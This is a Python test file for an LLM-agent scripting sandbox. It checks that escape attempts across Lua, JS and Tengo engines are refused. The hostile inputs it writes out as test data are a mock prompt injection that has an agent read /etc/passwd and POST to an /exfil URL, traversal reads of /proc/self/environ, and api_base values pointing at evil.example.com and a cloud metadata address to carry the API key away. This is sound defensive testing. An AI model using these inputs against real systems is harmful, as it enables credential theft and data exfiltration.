"""Escapes that do not depend on one engine's language: untrusted model replies (prompt injection),
network access, environment variables and API keys.
"""

from __future__ import annotations

import json
import logging
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from escapes import ENV_NAME, ENV_SECRET, SECRET_TEXT, passwd_marker
from support.fake_openai import FakeOpenAI, Reply
from support.guards import guarded

from llmspell_kernel.errors import LLMError, MemoryLimitError, SandboxError, SpellError, TimeLimitError
from llmspell_kernel.runtime.session import Session

KEY = "sk-test-SECRET123"
EXPLICIT_KEY = "sk-explicit-SECRET456"


class _Recorder(BaseHTTPRequestHandler):
    """A local web server that counts requests; `/redirect` sends the client to `localhost` instead."""

    def do_GET(self):
        self.server.hits.append(self.path)
        if self.path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", f"http://localhost:{self.server.server_port}/secret")
            self.end_headers()
            return
        body = SECRET_TEXT.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def web():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def _url(server, path="/") -> str:
    return f"http://127.0.0.1:{server.server_port}{path}"


# untrusted model replies: tool calls a model asks for ---------------------------------------------
INJECTION = {
    "lua": """local a = Agent.create({{name = "victim", model = "mock/script", tools = {{"file_read", "http_request"}},
  responses = {{{{tool = "file_read", args = {{path = "{path}"}}}},
               {{tool = "http_request", args = {{method = "POST", url = "{url}", body = "x"}}}}, "done"}}}})
return a:run("summarise my notes")""",
    "js": """const a = new Agent({{name: "victim", model: "mock/script", tools: ["file_read", "http_request"],
  responses: [{{tool: "file_read", args: {{path: "{path}"}}}},
              {{tool: "http_request", args: {{method: "POST", url: "{url}", body: "x"}}}}, "done"]}})
await a.run("summarise my notes")""",
    "tengo": """a := Agent.create({{name: "victim", model: "mock/script", tools: ["file_read", "http_request"],
  responses: [{{tool: "file_read", args: {{path: "{path}"}}}},
              {{tool: "http_request", args: {{method: "POST", url: "{url}", body: "x"}}}}, "done"]}})
a.run("summarise my notes")""",
}


@pytest.mark.parametrize("engine", ["lua", "js", "tengo"])
@pytest.mark.parametrize("path", ["/etc/passwd", "../outside/secret.txt", "out/secret.txt", "pw"])
def test_prompt_injection_tool_calls_are_refused(jailed, jail, web, engine, path):
    """A model reply that asks for file_read outside the root and http_request to a host not allowed gets the
    sandbox's refusal as the tool result; nothing is read or sent, and the agent carries on."""
    code = INJECTION[engine].format(path=path, url=_url(web, "/exfil"))
    assert jailed.run(code, engine) == "done"
    errors = [e.data for e in jailed.events.list(type="tool.error")]
    assert [e["name"] for e in errors] == ["file_read", "http_request"]
    assert "sandbox root" in errors[0]["error"]
    assert "network access to host '127.0.0.1' is not allowed" in errors[1]["error"]
    assert web.hits == []
    # what went back to the model is the refusal, never the file
    sent = json.dumps([e.data for e in jailed.events.list(type="llm.request")])
    assert "sandbox" in sent
    for marker in (SECRET_TEXT, passwd_marker()):
        assert marker not in sent
    assert not jailed.events.list(type="tool.result")


def test_prompt_injection_through_a_script_tool_is_refused_too(jailed, web):
    """A tool written in a spell that passes the model's arguments to fs and http_request is held to the same rules."""
    code = """
Tool.register({name = "fetch_and_save", description = "x",
  params = {type = "object", properties = {url = {type = "string"}, path = {type = "string"}}},
  fn = function(a)
    local ok1, e1 = pcall(Tool.call, "http_request", {method = "GET", url = a.url})
    local ok2, e2 = pcall(fs.write, a.path, "x")
    return {tostring(e1), tostring(e2)}
  end})
local a = Agent.create({name = "v2", model = "mock/script", tools = {"fetch_and_save"},
  responses = {{tool = "fetch_and_save", args = {url = "URL", path = "../outside/pwned.txt"}}, "ok"}})
a:run("go")
return Event.list({type = "tool.result"})[1].data.result
""".replace("URL", _url(web))
    first, second = jailed.run(code, "lua")
    assert "network access to host '127.0.0.1' is not allowed" in first
    assert "leaves the sandbox root" in second
    assert web.hits == []


# network -------------------------------------------------------------------------------------------
NETWORK = {
    "lua": 'return Tool.call("{tool}", {args})',
    "js": 'await Tool.call("{tool}", {args})',
    "tengo": 'Tool.call("{tool}", {args})',
}


@pytest.mark.parametrize("engine", ["lua", "js", "tengo"])
@pytest.mark.parametrize("tool", ["web_fetch", "http_request"])
def test_network_to_a_host_not_allowed_is_refused(jail, web, engine, tool):
    with Session(offline=True, root=str(jail.root), allowed_hosts=["example.org"]) as s:
        fields = {"url": _url(web)} if tool == "web_fetch" else {"method": "GET", "url": _url(web)}
        args = ("{" + ", ".join(f'{k} = "{v}"' for k, v in fields.items()) + "}") if engine == "lua" else (
            json.dumps(fields))
        with pytest.raises(SandboxError, match=r"network access to host '127\.0\.0\.1' is not allowed"):
            s.run(NETWORK[engine].format(tool=tool, args=args), engine)
    assert web.hits == []


def test_a_redirect_to_a_host_not_allowed_is_refused(jail, web):
    with Session(offline=True, root=str(jail.root), allowed_hosts=["127.0.0.1"]) as s:
        assert s.run(f'return Tool.call("web_fetch", {{url = "{_url(web, "/page")}"}})', "lua") == SECRET_TEXT
        with pytest.raises(SandboxError, match="host 'localhost' is not allowed"):
            s.run(f'return Tool.call("web_fetch", {{url = "{_url(web, "/redirect")}"}})', "lua")
    assert web.hits == ["/page", "/redirect"]  # the redirect was never followed


# environment variables --------------------------------------------------------------------------
ENV_ROUTES = {
    "lua": [f'return os.getenv("{ENV_NAME}")', 'return fs.read("../../../../../../proc/self/environ")',
            'return Tool.call("file_read", {path = "/proc/self/environ"})', "return Spell.params",
            "return Prompt.render('{{ environ }}{{ env }}{{ config }}', {})"],
    "js": [f"process.env.{ENV_NAME}", 'await fs.read("../../../../../../proc/self/environ")',
           'await Tool.call("file_read", {path: "/proc/self/environ"})', "Spell.params",
           "await Prompt.render('{{ environ }}{{ env }}{{ config }}', {})"],
    "tengo": [f'os := import("os")\nos.getenv("{ENV_NAME}")', 'fs.read("../../../../../../proc/self/environ")',
              'Tool.call("file_read", {path: "/proc/self/environ"})', "Spell.params",
              "Prompt.render(`{{ environ }}{{ env }}{{ config }}`, {})"],
}


@pytest.mark.parametrize("engine", ["lua", "js", "tengo"])
def test_environment_variables_never_reach_a_spell(jailed, jail, engine, capsys):
    (jail.root / "environ").symlink_to("/proc/self/environ")
    routes = [*ENV_ROUTES[engine], {"lua": 'return fs.read("environ")', "js": 'await fs.read("environ")',
                                    "tengo": 'fs.read("environ")'}[engine]]
    for code in routes:
        try:
            value = jailed.run(code, engine)
        except SpellError as exc:
            value = str(exc)
        assert ENV_SECRET not in json.dumps(value), code
    out = capsys.readouterr()
    assert ENV_SECRET not in out.out + out.err


# API keys -----------------------------------------------------------------------------------------
@pytest.fixture
def keyed(monkeypatch, tmp_path):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("LLMSPELL_CONFIG", str(tmp_path / "no-config.toml"))
    for var in ("LLMSPELL_OFFLINE", "LLMSPELL_MODEL"):
        monkeypatch.delenv(var, raising=False)
    return tmp_path


AGENT_RUN = {
    "lua": """local a = Agent.create({{name = "{name}", model = "openai/fake-model", api_base = "{url}"{extra}}})
return a:run("hello")""",
    "js": """const a = new Agent({{name: "{name}", model: "openai/fake-model", api_base: "{url}"{extra}}})
await a.run("hello")""",
    "tengo": """a := Agent.create({{name: "{name}", model: "openai/fake-model", api_base: "{url}"{extra}}})
a.run("hello")""",
}


def _extra(engine: str, key: str | None) -> str:
    if key is None:
        return ""
    return f', api_key = "{key}"' if engine == "lua" else f', api_key: "{key}"'


def test_api_keys_never_leak(keyed, capsys, caplog):
    """A fake key in the environment (and one given in a spell) reaches the model server, and nowhere else:
    not events, widgets, errors, logs, output, or the session's SQLite file."""
    caplog.set_level(logging.DEBUG)
    store = keyed / "named-session.sqlite3"
    seen: list[str] = []
    with FakeOpenAI() as server:
        session = Session(offline=False, model=None, root=str(keyed), store=str(store), llm_retries=2)
        session.llm.retry.base_delay = 0.01
        timeline, history = session.events.widget(interval=0.01), session.state.widget()
        try:
            for engine in ("lua", "js", "tengo"):
                for key in (None, EXPLICIT_KEY):
                    name = f"{engine}_{'explicit' if key else 'env'}"
                    code = AGENT_RUN[engine].format(name=name, url=server.url, extra=_extra(engine, key))
                    server.push(Reply.text("fine"))
                    assert session.run(code, engine) == "fine"
                    session.run({"lua": f'State.set("{name}", "ok")', "js": f'await State.set("{name}", "ok")',
                                 "tengo": f'State.set("{name}", "ok")'}[engine], engine)
                    # failing calls: 401 (not retried), then 500 twice (retried, then given up)
                    for reply in ([Reply.error(401, "invalid api key")],
                                  [Reply.error(500, "upstream broke"), Reply.error(500, "upstream broke")]):
                        server.push(*reply)
                        with pytest.raises(LLMError) as info:
                            session.run(AGENT_RUN[engine].format(name=name + "_f" + str(len(reply)), url=server.url,
                                                                 extra=_extra(engine, key)), engine)
                        assert "fake-model" in str(info.value)  # the error names the request
                        seen.append(str(info.value))
                        seen.append("".join(info.value.render()))
            auth = {r.headers.get("Authorization") or r.headers.get("authorization") for r in server.requests}
            assert auth == {f"Bearer {KEY}", f"Bearer {EXPLICIT_KEY}"}  # the keys did reach the server
            events = session.events.list()
            assert any(e.type == "llm.error" for e in events) and any(e.type == "llm.retry" for e in events)
            seen.append(json.dumps([e.to_dict() for e in events], default=str))
            seen.append(json.dumps(session.run("return Event.list()", "lua"), default=str))
            seen.append(json.dumps([session.run(f'return Agent.get("{n}"):info()', "lua")
                                    for n in ("lua_env", "js_explicit", "tengo_explicit")], default=str))
            timeline.flush()
            history.flush()
            assert any(r["kind"] == "llm" for r in timeline.rows)  # the widget did show the model calls
            seen.append(json.dumps(timeline.get_state(), default=str))
            for row in list(timeline.rows):
                timeline.selected = row["id"]
                seen.append(json.dumps(timeline.detail, default=str))
            seen.append(json.dumps(history.get_state(), default=str))
            seen.append(repr(session.agents.get("lua_explicit")))
        finally:
            timeline.close()
            history.close()
            session.close()
    out = capsys.readouterr()
    seen += [out.out, out.err, caplog.text]
    raw = b"".join(p.read_bytes() for p in keyed.glob("named-session.sqlite3*"))
    assert raw, "the named session was not persisted"
    for key in (KEY, EXPLICIT_KEY):
        for i, text in enumerate(seen):
            assert key not in text, f"the key leaked into item {i}: {text[:300]}"
        assert key.encode() not in raw
        assert key[-9:].encode() not in raw  # not even its tail


@pytest.mark.parametrize("engine", ["lua", "js", "tengo"])
@pytest.mark.parametrize("api_base", ["http://exfil.example:8080/v1", "https://evil.example.com",
                                      "http://169.254.169.254/latest", "http://127.0.0.1.evil.example/"])
def test_a_script_chosen_api_base_cannot_take_the_key_elsewhere(keyed, engine, api_base):
    """api_base is network access: the environment's key would be sent there. Only loopback servers and
    allowed hosts are reachable; the refusal comes before any request."""
    session = Session(offline=False, model=None, root=str(keyed))
    try:
        code = AGENT_RUN[engine].format(name="exfil", url=api_base, extra="")
        with pytest.raises(SandboxError, match="is not allowed by the sandbox") as info:
            session.run(code, engine)
        assert KEY not in str(info.value)
        assert not session.events.list(type="llm.request")
        llm = {"lua": f'return LLM.complete("x", {{model = "openai/gpt-4o-mini", api_base = "{api_base}"}})',
               "js": f'await LLM.complete("x", {{model: "openai/gpt-4o-mini", api_base: "{api_base}"}})',
               "tengo": f'LLM.complete("x", {{model: "openai/gpt-4o-mini", api_base: "{api_base}"}})'}[engine]
        with pytest.raises(SandboxError, match="is not allowed by the sandbox"):
            session.run(llm, engine)
    finally:
        session.close()


def test_a_loopback_api_base_is_reachable(keyed):
    """A local model server (loopback) needs no allow-list entry: the key stays on this machine."""
    with FakeOpenAI() as server:
        url = server.url.replace("127.0.0.1", "localhost")
        session = Session(offline=False, model=None, root=str(keyed))
        try:
            server.push(Reply.text("via localhost"))
            assert session.run(f'return LLM.complete("x", {{model = "openai/fake-model", api_base = "{url}"}})',
                               "lua") == "via localhost"
        finally:
            session.close()


def test_an_api_base_on_an_allowed_host_passes_the_check(tmp_path):
    with Session(offline=True, root=str(tmp_path), allowed_hosts=["models.internal"]) as session:
        sandbox = session.sandbox
    assert sandbox.check_endpoint("https://models.internal/v1") == "models.internal"
    assert sandbox.check_endpoint("http://[::1]:8000/v1") == "::1"
    for url in ("https://other.internal/v1", "models.internal:80", "ftp://models.internal/", None):
        with pytest.raises(SandboxError):
            sandbox.check_endpoint(url)


# limits -------------------------------------------------------------------------------------------
SLEEP = [("lua", "pcall(Spell.sleep, 600000) Spell.sleep(600000)"), ("js", "await Spell.sleep(600000)"),
         ("tengo", "Spell.sleep(600000)\nSpell.sleep(600000)"),
         ("tengo", 'times := import("times")\ntimes.sleep(600 * times.second)')]  # ten times the guard


@pytest.mark.parametrize(("engine", "code"), SLEEP)
def test_a_long_sleep_ends_at_the_time_limit(jailed, engine, code):
    """Spell.sleep and Tengo's times.sleep used to block past the time limit (hooks run between instructions)."""
    with guarded(), pytest.raises(TimeLimitError, match=r"time limit of 0\.3 s"):
        jailed.run(code, engine, timeout=0.3)


GROW = {"lua": 'local s = "x" for i = 1, 40 do s = s .. s end return #s',
        "js": "const a = []; while (true) a.push(new Array(100000).fill(1))",
        "tengo": 's := "x"\nfor i := 0; i < 40; i++ { s = s + s }\nlen(s)'}


@pytest.mark.parametrize("engine", ["lua", "js", "tengo"])
def test_memory_limit_stops_a_growing_script(jail, engine):
    with Session(offline=True, root=str(jail.root), max_memory_mb=64) as s:
        with pytest.raises(MemoryLimitError, match="memory limit"):
            s.run(GROW[engine], engine, timeout=30)
        assert s.run({"lua": "return 1 + 1", "js": "1 + 1", "tengo": "1 + 1"}[engine], engine) == 2  # still usable
